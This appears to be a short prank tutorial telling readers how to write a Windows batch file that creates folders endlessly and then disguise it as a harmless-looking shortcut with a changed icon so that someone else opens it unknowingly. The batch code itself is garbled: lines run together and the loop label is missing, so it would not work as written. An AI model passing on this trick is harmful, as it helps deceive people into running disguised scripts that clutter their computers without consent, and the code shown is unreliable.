This is meant for a Windows System

Here’s how you’re going to make hundreds of folders in a few seconds!

Open up Notepad in Windows and type:

@echo off
md %random%goto top

Save the file as “Prank.bat” but let’s face it, no one is going to open that, so what you need to do is right-click > create shortcut. Name it anything you want then access the properties of that file and change the icon to resemble something else. Now all you gottado is wait for them to open the file!